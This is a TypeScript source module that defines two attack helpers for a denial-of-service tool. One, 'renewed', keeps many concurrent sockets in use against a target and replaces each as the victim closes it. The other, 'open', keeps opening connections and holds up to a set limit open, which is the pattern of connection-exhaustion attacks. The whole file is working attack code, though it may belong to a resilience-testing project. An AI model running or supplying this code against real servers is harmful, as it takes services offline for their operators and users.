/** Attacks that use several sockets at the same time. */
import type * as net from "node:net"
import type { Attack } from "./connectionAttacks.ts"
import { connect, pause, type Target } from "./httpRequests.ts"

/** Uses as many sockets at the same time. After each use, and after the victim has closed one, a new one follows. */
export const renewed =
  (sockets: number, use: (target: Target, socket: net.Socket, signal: AbortSignal) => Promise<void>): Attack<Target> =>
  async (target, signal) => {
    const useEach = async (): Promise<void> => {
      while (!signal.aborted) {
        const socket = await connect(target)
        if (socket === undefined) {
          await pause(100)
          continue
        }
        signal.addEventListener("abort", () => socket.destroy(), { once: true })
        await use(target, socket, signal)
        socket.destroy()
      }
    }
    await Promise.all(Array.from({ length: sockets }, useEach))
  }

/** Opens sockets, uses each once, and leaves up to `limit` of them open. */
export const open =
  (limit: number, use: (target: Target, socket: net.Socket, index: number) => Promise<unknown>): Attack<Target> =>
  async (target, signal) => {
    const sockets = new Set<net.Socket>()
    for (let index = 1; !signal.aborted; index++) {
      const socket = sockets.size < limit ? await connect(target) : undefined
      if (socket === undefined) {
        await pause(20)
        continue
      }
      sockets.add(socket)
      socket.on("close", () => sockets.delete(socket))
      await use(target, socket, index)
    }
    for (const socket of sockets) socket.destroy()
  }
